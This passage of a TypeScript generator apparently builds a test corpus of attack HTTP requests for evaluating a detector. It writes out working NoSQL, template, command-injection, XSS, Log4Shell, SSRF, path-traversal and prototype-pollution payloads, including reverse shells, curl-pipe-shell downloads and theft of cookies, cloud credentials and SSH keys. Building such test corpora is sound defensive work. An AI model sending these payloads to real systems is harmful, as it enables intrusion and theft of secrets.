      headers: withBody('application/json'),
      body: JSON.stringify({ q: { title: { $regex: '^(a+)+$', $options: 'i' } } }),
    }),
  ],
  [
    '$where in NDJSON bulk line',
    (d) => ({
      carrier: 'NDJSON line',
      method: 'POST',
      path: `${d.base}/ingest`,
      headers: withBody('application/x-ndjson'),
      body: `${JSON.stringify({ a: 1 })}\n${JSON.stringify({ match: { $where: 'this.balance > 0 && sleep(3000)' } })}\n`,
    }),
  ],
  [
    'jsonapi filter with $ne',
    (d) => ({
      carrier: 'jsonapi filter param',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?filter[owner][$ne]=&page[size]=100`,
      headers: baseHeaders('application/vnd.api+json'),
      body: '',
    }),
  ],
  [
    '$accumulator JS execution',
    (d) => ({
      carrier: 'aggregation stage',
      method: 'POST',
      path: `${d.base}/reports/aggregate`,
      headers: withBody('application/json'),
      body: JSON.stringify({
        pipeline: [
          {
            $group: {
              _id: null,
              x: {
                $accumulator: {
                  init: 'function(){ return db.getSiblingDB("admin") }',
                  accumulate: 'function(s){return s}',
                  accumulateArgs: [],
                  merge: 'function(a){return a}',
                  lang: 'js',
                },
              },
            },
          },
        ],
      }),
    }),
  ],
  [
    '$exists enumerate hidden fields',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/members?resetToken[$exists]=true&fields=email,resetToken`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'percent-encoded bracket $regex',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/auth/check?user=admin&pin%5B%24regex%5D=%5E1`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'mapReduce JS injection',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/reports/mapreduce`,
      headers: withBody('application/json'),
      body: JSON.stringify({
        map: 'function(){ emit(this._id, tojson(db.users.find().toArray())) }',
        reduce: 'function(k,v){return v}',
      }),
    }),
  ],
  [
    '$where sleep with \\u-escaped operator',
    (d) => ({
      carrier: '\\u-escaped JSON key',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/search`,
      headers: withBody('application/json'),
      body: '{"filter":{"\\u0024where":"sleep(5000)"}}',
    }),
  ],
  [
    '$gt inside array element',
    (d) => ({
      carrier: 'JSON array element',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/batch-get`,
      headers: withBody('application/json'),
      body: JSON.stringify({ ids: ['a1', { $gt: '' }] }),
    }),
  ],
  [
    '$ne in json-patch value',
    (d) => ({
      carrier: 'json-patch value',
      method: 'PATCH',
      path: `${d.base}/saved-searches/${int(1, 999)}`,
      headers: withBody('application/json-patch+json'),
      body: JSON.stringify([{ op: 'replace', path: '/criteria/owner', value: { $ne: null } }]),
    }),
  ],
  [
    '$function in graphql variable filter',
    (_d) => ({
      carrier: 'GraphQL variables',
      method: 'POST',
      path: '/graphql',
      headers: withBody('application/json'),
      body: JSON.stringify({
        query: 'query M($w: JSON){ markets(where: $w){ id } }',
        variables: {
          w: {
            $expr: { $function: { body: 'function(){ sleep(4000); return true }', args: [], lang: 'js' } },
          },
        },
      }),
    }),
  ],
  [
    '$where in header-carried filter',
    (d) => {
      const h = baseHeaders();
      h['x-filter'] = JSON.stringify({ $where: 'this.isAdmin || sleep(2000)' });
      return {
        carrier: 'header x-filter',
        method: 'GET',
        path: `${d.base}/${pick(d.resources)}`,
        headers: h,
        body: '',
      };
    },
  ],
  [
    '$regex wildcard on API key',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/keys/verify`,
      headers: withBody('application/json'),
      body: JSON.stringify({ key: { $regex: '.*' } }),
    }),
  ],
];
for (const [i, [t, f]] of NOSQL.entries()) addAttack('nosql', t, f(dom(i)));

runStringFamily(
  'template',
  [
    ['arithmetic probe', '{{7*7}}'],
    [
      'Node constructor escape to child_process',
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    ],
    ['Spring EL T() Runtime', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['ERB file read', "<%= File.open('/etc/passwd').read %>"],
    ['Jinja2 MRO subclasses walk', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['Jinja2 config leak', '{{config.items()}}'],
    ['Thymeleaf selection expression', '*{T(java.lang.System).getenv()}'],
    ['Jinja2 lipsum globals os.popen', "{{lipsum.__globals__.os.popen('id').read()}}"],
    ['Freemarker Execute', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
    ['Velocity class inspect', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))'],
    [
      'Jinja2 request globals builtins import',
      "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
    ],
    ['Smarty system tag', "{system('cat /etc/passwd')}"],
    ['Pug/Jade unescaped code', "#{root.process.mainModule.require('child_process').execSync('id')}"],
    ['Razor process start', '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'],
    ['Twig filter callback', "{{['id']|filter('system')}}"],
  ],
  ['giftMessage', 'surveyAnswer', 'motd', 'announcement', 'bulletinBlurb', 'displayName', 'emailSubject'],
);

runStringFamily(
  'command',
  [
    ['semicolon chain', 'mc-survival; cat /etc/passwd'],
    ['netcat reverse shell pipe', 'backup.zip | nc 198.51.100.7 4444 -e /bin/sh'],
    ['command substitution curl|sh', '$(curl -s http://203.0.113.9/x.sh | sh)'],
    ['backtick substitution', 'world_`id`'],
    [
      'AND chain download-execute',
      '8.8.8.8 && wget http://203.0.113.9/b -O /tmp/b && chmod +x /tmp/b && /tmp/b',
    ],
    ['newline-separated command', 'save-all\nrm -rf /home/container/world'],
    ['IFS whitespace evasion', ';cat${IFS}/etc/shadow'],
    ['bash /dev/tcp reverse shell', '; bash -i >& /dev/tcp/198.51.100.7/9001 0>&1'],
    ['brace expansion', 'a;{cat,/etc/passwd}'],
    ['OR chain ping timing', 'x || ping -c 10 127.0.0.1'],
    [
      'PowerShell encoded command',
      '& powershell -NoP -NonI -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==',
    ],
    [
      'python one-liner socket shell',
      '; python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",9001));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    ],
    [
      'printf hex-obfuscated command',
      "$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')",
    ],
    ['quote-split binary name', ";c'a't /e\"t\"c/pa's's'wd"],
    ['Windows ampersand type', 'report.pdf & type C:\\Windows\\win.ini'],
  ],
  ['pingHost', 'backupName', 'worldName', 'consoleCommand', 'serverName', 'javaArgs', 'filename'],
);

runStringFamily(
  'xss',
  [
    ['script tag', '<script>alert(document.domain)</script>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['svg onload cookie exfil', "<svg/onload=fetch('//evil.example/c?'+document.cookie)>"],
    ['javascript: URL', 'javascript:alert(document.cookie)'],
    ['attribute breakout to iframe', '"><iframe src=javascript:alert(1)>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>'],
    ['tab-split javascript entity', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    [
      'mXSS math/style namespace confusion',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    ],
    ['JS string breakout', "';alert(String.fromCharCode(88,83,83))//"],
    ['autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
    ['mixed-case external script', '<sCrIpT src=//evil.example/x.js></ScRiPt>'],
    ['data: URI object', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
    ['video source onerror', '<video><source onerror="alert(1)">'],
    ['body onload', '<body onload=alert(1)>'],
    ['markdown link javascript', '[click me](javascript:alert(1))'],
  ],
  [
    'petName',
    'giftMessage',
    'displayName',
    'reviewerComment',
    'marketName',
    'volunteerNote',
    'title',
    'avatarAlt',
  ],
);

runStringFamily(
  'log4shell',
  [
    ['plain JNDI LDAP', '${jndi:ldap://evil.example/a}'],
    ['JNDI RMI', '${jndi:rmi://198.51.100.3:1099/Exploit}'],
    ['lower lookup obfuscation', '${${lower:j}ndi:${lower:l}dap://x.evil.example/a}'],
    ['default-value lookup per letter', '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}'],
    ['JNDI DNS canary', '${jndi:dns://h33.evil.example/q}'],
    [
      'env default obfuscation',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/x}',
    ],
    ['LDAPS', '${jndi:ldaps://evil.example:636/a}'],
    ['k8s lookup default', '${j${k8s:k5:-ND}i:ldap://evil.example/k}'],
    ['upper lookup', '${${upper:j}ndi:ldap://evil.example/u}'],
    ['secret exfil in hostname', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}'],
    ['date lookup obfuscation', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}"],
    ['IIOP scheme', '${jndi:iiop://198.51.100.3:1050/a}'],
    ['nested lower on protocol', '${jndi:${lower:L}${lower:D}A${lower:P}://evil.example/n}'],
    ['sys property exfil', '${jndi:ldap://evil.example/${sys:java.version}}'],
    ['HTTP JNDI', '${jndi:http://evil.example/p}'],
  ],
  ['marketName', 'settlementNote', 'serverName', 'deviceId', 'referenceCode', 'trackingNumber'],
);

const SSRF_CARRIERS: readonly Carrier[] = [
  STRING_CARRIERS[0]!,
  STRING_CARRIERS[1]!,
  STRING_CARRIERS[2]!,
  STRING_CARRIERS[4]!,
  STRING_CARRIERS[5]!,
  STRING_CARRIERS[6]!,
  STRING_CARRIERS[7]!,
  STRING_CARRIERS[9]!,
  STRING_CARRIERS[11]!,
  STRING_CARRIERS[12]!,
  (p, _f, d) => {
    const h = withBody('application/json');
    h['x-webhook-url'] = p;
    return {
      carrier: 'header x-webhook-url',
      method: 'POST',
      path: `${d.base}/webhooks/test`,
      headers: h,
      body: JSON.stringify({ event: 'ping', sentAt: isoDate() }),
    };
  },
];
runStringFamily(
  'ssrf',
  [
    ['AWS IMDS credentials', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    [
      'GCP metadata',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    ['loopback Redis', 'http://127.0.0.1:6379/'],
    ['gopher to Redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A'],
    ['file scheme', 'file:///etc/passwd'],
    ['IPv6 loopback admin', 'http://[::1]:8080/admin'],
    ['hex IP loopback', 'http://0x7f000001/server-status'],
    ['decimal IP loopback', 'http://2130706433/'],
    ['userinfo confusion', 'http://photos.example.com@127.0.0.1:9200/_cat/indices'],
    ['IPv4-mapped IPv6 metadata', 'http://[::ffff:169.254.169.254]/latest/meta-data/'],
    ['dict scheme memcached', 'dict://127.0.0.1:11211/stats'],
    ['octal IP loopback', 'http://0177.0.0.1/'],
    ['Alibaba metadata', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/'],
    ['ECS task credentials', 'http://169.254.170.2/v2/credentials/'],
    ['docker API short IP', 'http://127.1:2375/containers/json'],
    ['Kubernetes API service', 'https://kubernetes.default.svc/api/v1/namespaces/default/secrets'],
  ],
  ['photoUrl', 'webhookUrl', 'callbackUrl', 'importFrom', 'avatarUrl', 'feedUrl', 'modDownloadUrl', 'pdfUrl'],
  SSRF_CARRIERS,
);

// Path traversal: mostly in file-ish fields, plus a few in the request path and multipart filenames.
const PT_PAYLOADS: readonly [string, string][] = [
  ['classic dot-dot-slash', '../../../../etc/passwd'],
  ['percent-encoded slashes', '..%2f..%2f..%2f..%2fetc%2fpasswd'],
  ['filter-stripping bypass', '....//....//....//etc/shadow'],
  ['encoded dots to /proc', '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc/self/environ'],
  ['Windows backslashes', '..\\..\\..\\windows\\win.ini'],
  ['absolute prefix then climb', '/srv/uploads/../../../etc/hosts'],
  ['double-encoded', '..%252f..%252f..%252fetc%252fpasswd'],
  ['overlong UTF-8 slash', '..%c0%af..%c0%af..%c0%afetc/passwd'],
  ['null byte extension truncation', '../../../etc/passwd%00.png'],
  ['/proc/self/cwd config read', '/proc/self/cwd/config/secrets.yml'],
  ['dotenv read', '../../../app/.env'],
  ['Tomcat path parameter', '..;/..;/manager/html'],
  ['mixed slash evasion', '..\\/..\\/..\\/etc/passwd'],
  ['unicode full-width dot', '\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd'],
  ['SSH key read', '../../../../root/.ssh/id_rsa'],
];
const PT_FIELDS = [
  'attachmentPath',
  'template',
  'file',
  'worldFolder',
  'logFile',
  'photoPath',
  'downloadPath',
  'locale',
];
for (let i = 0; i < 30; i++) {
  const [t, p] = PT_PAYLOADS[i % PT_PAYLOADS.length]!;
  const d = dom(i + 5);
  if (i % 6 === 0) {
    const raw = p.replace(/^\//, '');
    addAttack('path-traversal', t, {
      carrier: 'URL path segment',
      method: 'GET',
      path: `${d.base}/files/${
        /%/.test(raw)
          ? raw
          : raw
              .split('/')
              .map((s) => enc(s).replace(/%2E/gi, '.'))
              .join('/')
      }`,
      headers: baseHeaders('*/*'),
      body: '',
    });
  } else if (i % 6 === 3) {
    const boundary = `----WebKitFormBoundary${rnd64(16)}`;
    addAttack('path-traversal', t, {
      carrier: 'multipart filename',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/${uuid()}/attachments`,
      headers: withBody(`multipart/form-data; boundary=${boundary}`),
      body: [
        `--${boundary}`,
        `Content-Disposition: form-data; name="file"; filename="${p.replace(/"/g, '')}"`,
        'Content-Type: image/jpeg',
        '',
        `\u00ff\u00d8\u00ff\u00e0${rnd64(30)}`,
        `--${boundary}--`,
        '',
      ].join('\r\n'),
    });
  } else {
    const c = STRING_CARRIERS[(i * 7) % STRING_CARRIERS.length]!;
    addAttack('path-traversal', t, c(p, pick(PT_FIELDS), d));
  }
}

// Prototype pollution: structural, in keys.
const PP: readonly [string, (d: Domain) => Shaped][] = [
  [
    '__proto__ top-level key',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}`,
      headers: withBody('application/json'),
      body: `{"name":"Ironhold","__proto__":{"isAdmin":true}}`,
    }),
  ],
  [
    'constructor.prototype nesting',
    (d) => ({
      carrier: 'JSON body',
      method: 'PUT',
      path: `${d.base}/settings`,
      headers: withBody('application/json'),
      body: JSON.stringify({ theme: 'dark', constructor: { prototype: { role: 'admin' } } }),
    }),
  ],
  [
    'query-string bracket __proto__',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?__proto__[admin]=1&page=2`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'query-string constructor[prototype]',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?constructor[prototype][isAdmin]=true`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'merge-patch __proto__',
    (d) => ({
      carrier: 'merge-patch field',
      method: 'PATCH',
      path: `${d.base}/members/${uuid()}`,
      headers: withBody('application/merge-patch+json'),
      body: `{"nickname":"sam","__proto__":{"canRefund":true}}`,
    }),
  ],
  [
    'json-patch path into __proto__',
    (d) => ({
      carrier: 'json-patch path',
      method: 'PATCH',
      path: `${d.base}/${pick(d.resources)}/${int(1, 999)}`,
      headers: withBody('application/json-patch+json'),
      body: JSON.stringify([{ op: 'add', path: '/__proto__/polluted', value: 'yes' }]),
    }),
  ],
  [
    '\\u-escaped __proto__ key',
    (d) => ({
      carrier: '\\u-escaped JSON key',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}`,
      headers: withBody('application/json'),
      body: '{"title":"x","\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
    }),
  ],
  [
    'deeply nested __proto__',
    (d) => ({
      carrier: 'nested JSON object',
      method: 'PUT',
      path: `${d.base}/preferences`,
      headers: withBody('application/json'),
      body: '{"settings":{"ui":{"theme":{"__proto__":{"shell":"/bin/sh"}}}}}',
    }),
  ],
  [
    'dotted-path set() key',
    (d) => ({
      carrier: 'JSON key as dotted path',
      method: 'PATCH',
      path: `${d.base}/profile`,
      headers: withBody('application/json'),
      body: JSON.stringify({ '__proto__.isAdmin': true }),
    }),
  ],
  [
    'path/value pair for lodash set',
    (d) => ({
      carrier: 'path/value fields',
      method: 'POST',
      path: `${d.base}/profile/field`,
      headers: withBody('application/json'),
      body: JSON.stringify({ path: '__proto__.polluted', value: 'yes' }),
    }),
  ],
  [
    'form bracket __proto__',
    (d) => ({
      carrier: 'form field',
      method: 'POST',
      path: `${d.base}/forms/submit`,
      headers: withBody('application/x-www-form-urlencoded'),
      body: 'name=test&__proto__%5BisAdmin%5D=true',
    }),
  ],
  [
    '__proto__ in array element',
    (d) => ({
      carrier: 'JSON array element',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/batch`,
      headers: withBody('application/json'),
      body: '{"items":[{"id":1},{"id":2,"__proto__":{"approved":true}}]}',
    }),
  ],
  [
    'GraphQL variables __proto__',
    (_d) => ({
      carrier: 'GraphQL variables',
      method: 'POST',
      path: '/graphql',
      headers: withBody('application/json'),
      body: '{"query":"mutation U($i: JSON){ updateProfile(input: $i){ id } }","variables":{"i":{"__proto__":{"role":"admin"}}}}',
    }),
  ],
  [
    'execArgv RCE gadget',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/servers/${hex(6)}/restart`,
      headers: withBody('application/json'),
      body: `{"graceful":true,"__proto__":{"execArgv":["--eval=require('child_process').execSync('id')"]}}`,
    }),
  ],
  [
    'NODE_OPTIONS env gadget',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/jobs`,
      headers: withBody('application/json'),
      body: '{"job":"export","__proto__":{"env":{"NODE_OPTIONS":"--require /proc/self/environ"}}}',
    }),
  ],
  [
    'EJS outputFunctionName gadget',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/pages/preview`,
      headers: withBody('application/json'),
      body: `{"title":"x","__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}`,
    }),
  ],
  [
    'constructor.prototype in query dot notation',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?constructor.prototype.isAdmin=true`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'percent-encoded __proto__ query key',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?%5F%5Fproto%5F%5F%5Bpolluted%5D=1`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'JSON in string field with __proto__',
    (d) => ({
      carrier: 'JSON encoded inside a string field',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}`,
      headers: withBody('application/json'),
      body: JSON.stringify({ type: 'saved-view', payload: '{"columns":["a"],"__proto__":{"isAdmin":true}}' }),
    }),
  ],
  [
    'base64 body with __proto__',
    (d) => ({
      carrier: 'base64 field the API decodes',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/import`,
      headers: withBody('application/json'),
      body: JSON.stringify({ encoding: 'base64', data: b64('{"rows":[],"__proto__":{"isAdmin":true}}') }),
    }),
  ],
  [
    'jsonapi attributes __proto__',
    (d) => ({
      carrier: 'jsonapi attribute',
      method: 'PATCH',
      path: `${d.base}/${pick(d.resources)}/${int(1, 999)}`,
      headers: withBody('application/vnd.api+json', 'application/vnd.api+json'),
      body: '{"data":{"type":"members","id":"7","attributes":{"name":"x","__proto__":{"admin":true}}}}',
    }),
  ],
  [
    'NDJSON line __proto__',
    (d) => ({
      carrier: 'NDJSON line',
      method: 'POST',
      path: `${d.base}/ingest`,
      headers: withBody('application/x-ndjson'),
      body: '{"a":1}\n{"__proto__":{"polluted":"yes"}}\n',
    }),
  ],
  [
    'constructor prototype in json-patch path',
    (d) => ({
      carrier: 'json-patch path',
      method: 'PATCH',
      path: `${d.base}/${pick(d.resources)}/${int(1, 999)}`,
      headers: withBody('application/json-patch+json'),
      body: JSON.stringify([{ op: 'replace', path: '/constructor/prototype/isAdmin', value: true }]),
    }),
  ],
  [
    'sourceURL code-injection gadget',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/templates/render`,
      headers: withBody('application/json'),
      body: JSON.stringify({ name: 'x' }).replace(
        '}',
        ',"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
      ),
    }),
  ],
  [
    'partially \\u-escaped constructor key',
    (d) => ({
      carrier: '\\u-escaped JSON key',
      method: 'PUT',
      path: `${d.base}/settings`,
      headers: withBody('application/json'),
      body: '{"constr\\u0075ctor":{"prot\\u006ftype":{"isAdmin":true}}}',
    }),
  ],
  [
    'header-carried JSON __proto__',
    (d) => {
      const h = baseHeaders();
      h['x-user-prefs'] = '{"__proto__":{"isAdmin":true}}';
      return {
        carrier: 'header x-user-prefs',
        method: 'GET',
        path: `${d.base}/${pick(d.resources)}`,
        headers: h,
        body: '',
      };
    },
  ],
  [
    'multipart field name __proto__',
    (d) => {
      const boundary = `----formdata-${rnd64(12)}`;
      return {
        carrier: 'multipart field name',
        method: 'POST',
        path: `${d.base}/${pick(d.resources)}/upload`,
        headers: withBody(`multipart/form-data; boundary=${boundary}`),
        body: [
          `--${boundary}`,
          'Content-Disposition: form-data; name="__proto__[isAdmin]"',
          '',
          'true',
          `--${boundary}--`,
          '',
        ].join('\r\n'),
      };
    },
  ],
  [
    'prototype shell gadget for spawn',
    (d) => ({
      carrier: 'nested JSON object',
      method: 'POST',
      path: `${d.base}/servers/${hex(6)}/console`,
      headers: withBody('application/json'),
      body: '{"opts":{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}',
    }),
  ],
  [
    'duplicate key with __proto__ second',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}`,
      headers: withBody('application/json'),
      body: '{"role":"user","__proto__":{"role":"admin"},"name":"a"}',
    }),
  ],
  [
    'query-string __proto__ dot notation',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?__proto__.toString=1&limit=5`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
];
for (const [i, [t, f]] of PP.entries()) addAttack('prototype-pollution', t, f(dom(i + 1)));

/** Corpus 33: deterministic clean and attack requests across the eight corpus-33 domains. */
export const heldout33: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout33.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(here, 'attacks-heldout33.json'), JSON.stringify(attacks, null, 2) + '\n');
  const count = (xs: CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const out: Record<string, number> = {};
    for (const x of xs) {
      const k = x[key] ?? '?';
      out[k] = (out[k] ?? 0) + 1;
    }
    return out;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
